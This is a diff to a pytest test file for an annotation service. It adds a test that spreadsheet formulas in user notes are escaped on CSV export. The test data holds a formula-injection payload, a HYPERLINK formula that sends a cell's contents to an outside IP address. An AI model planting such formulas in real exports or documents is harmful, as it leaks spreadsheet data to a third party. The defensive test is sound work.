@@ -125,7 +125,7 @@ def test_a_graph_has_who_and_when_in_the_words_of_web_annotations(desk: Desk) ->
 
 
 @pytest.mark.parametrize(
-    "text", [SCRIPT, "=1+1", "a\nb\n\n# c", "x" * 10_000], ids=["markup", "formula", "lines", "long"]
+    "text", [SCRIPT, "1 = 1", "a\nb\n\n# c", "x" * 10_000], ids=["markup", "equation", "lines", "long"]
 )
 def test_what_a_reader_writes_is_kept_as_it_is_and_is_never_markup(desk: Desk, text: str) -> None:
     address = desk.begun(SCRIPT, note=text)
@@ -166,6 +166,13 @@ def test_only_statements_and_passages_that_there_are_can_be_collected(desk: Desk
     iri = target.format(base=desk.names.base) if "{base}" in target else target
     reply = desk.send(desk.statements[0], iri, name="Refused")
     assert (reply.status, f"'{iri}' is no statement or passage" in reply.text) == (400, True)
+
+
+def test_no_note_is_a_formula_in_a_spreadsheet(desk: Desk) -> None:
+    address = desk.begun("Formulas", note='=HYPERLINK("http://198.51.100.7/"&A1)')
+    (row,) = csv.DictReader(io.StringIO(desk.reader.get(address, "text/csv").text))
+    assert row["note"] == '\'=HYPERLINK("http://198.51.100.7/"&A1)'
+    assert '=HYPERLINK("http://198.51.100.7/"&A1)' in desk.reader.get(address).words
 
 
 def test_writing_needs_a_token_of_the_role_and_the_page_says_so(desk: Desk) -> None:
